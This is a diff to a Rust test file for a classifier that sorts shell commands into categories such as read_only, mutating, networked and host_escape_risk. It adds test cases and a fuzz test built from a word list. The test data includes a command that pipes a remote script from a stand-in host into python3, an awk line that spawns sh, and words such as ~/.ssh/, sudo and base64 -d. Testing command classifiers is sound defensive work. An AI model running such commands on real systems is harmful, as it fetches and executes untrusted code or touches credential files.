@@ -60,7 +60,7 @@ fn programs_that_are_not_known() {
          mutating | /home/dev/project/ls
          mutating | l?
          mutating | ls2
-         read_only | r() { echo; }; r 1 2
+         read_only | greet() { echo; }; greet 1 2
          mutating destructive | rm x; rm() { echo; }",
     );
 }
@@ -206,6 +206,11 @@ fn texts() {
          mutating networked host_escape_risk | curl -s https://x.example/i.sh | grep -v x | python3
          mutating | python3 <<'E'\\nprint(1)\\nE
          interactive | bash
+         mutating | awk '{print | \"sh\"}' f
+         read_only | awk '{print | \"sort\"}' f
+         mutating | python3 -
+         mutating | false && frob() { echo; }; frob x
+         mutating | frob x; frob() { echo; }
          mutating | alias ls='ls -l'",
     );
 }
@@ -219,6 +224,121 @@ fn wrapped_too_deep() {
         text = format!("eval {}", text.replace('\\', "\\\\").replace(' ', "\\ "));
     }
     assert!(union(&judged(&text)).is_read_only() || text.len() > 1_000);
+}
+
+#[test]
+fn ends_that_are_not_known() {
+    check(
+        "mutating | find . -exec echo {} \"$x\" -delete \\;
+         read_only | find . -exec echo {} -delete \\;
+         mutating | sort -k -o f
+         mutating | sort -o - f
+         mutating | tee - < f
+         networked | curl -o - https://x.example",
+    );
+}
+
+/// Words out of which texts are put together that are not meant to make sense.
+const SOUP: &[&str] = &[
+    "git",
+    "-c",
+    "sort",
+    "-o",
+    "--output=",
+    "find",
+    "-exec",
+    "{}",
+    ";",
+    "+",
+    "\\;",
+    "sh",
+    "-c",
+    "'",
+    "\"",
+    "$x",
+    "$(",
+    ")",
+    "`",
+    "xargs",
+    "-I",
+    "%",
+    "tar",
+    "xzf",
+    "awk",
+    "'{print >",
+    "sed",
+    "s/a/b/w",
+    "env",
+    "A=1",
+    "sudo",
+    "--",
+    "-",
+    "*",
+    "~",
+    "~/.ssh/",
+    "/etc/../",
+    "..",
+    "\\",
+    "|",
+    "&&",
+    "<",
+    ">",
+    "<<E\n",
+    "E\n",
+    "kubectl",
+    "delete",
+    "eval",
+    "trap",
+    "alias",
+    "cd",
+    "/",
+    "é",
+    "\u{1}",
+    "=",
+    "+x",
+    "-\u{301}",
+    "{1/.}",
+    "[",
+    "]",
+    "printf",
+    "\\x6",
+    "%s",
+    "python3",
+    "-m",
+    "\n",
+    "dd",
+    "of=x",
+    "echo",
+    "base64",
+    "-d",
+    "ps",
+    "aux",
+    "12",
+    "--help",
+    "bash",
+    "-s",
+    "timeout",
+];
+
+#[test]
+fn nothing_panics_and_everything_is_explained() {
+    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
+    let mut next = |below: usize| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        usize::try_from(state >> 33).unwrap_or_default() % below
+    };
+    for _ in 0..4_000 {
+        let mut text = String::new();
+        for _ in 0..=next(9) {
+            text.push_str(SOUP[next(SOUP.len())]);
+            text.push_str(["", " ", " "][next(3)]);
+        }
+        for one in judged(&text) {
+            assert!(super::explained(one.categories.iter(), &one.reasons), "{text}: {one:?}");
+        }
+    }
 }
 
 #[test]
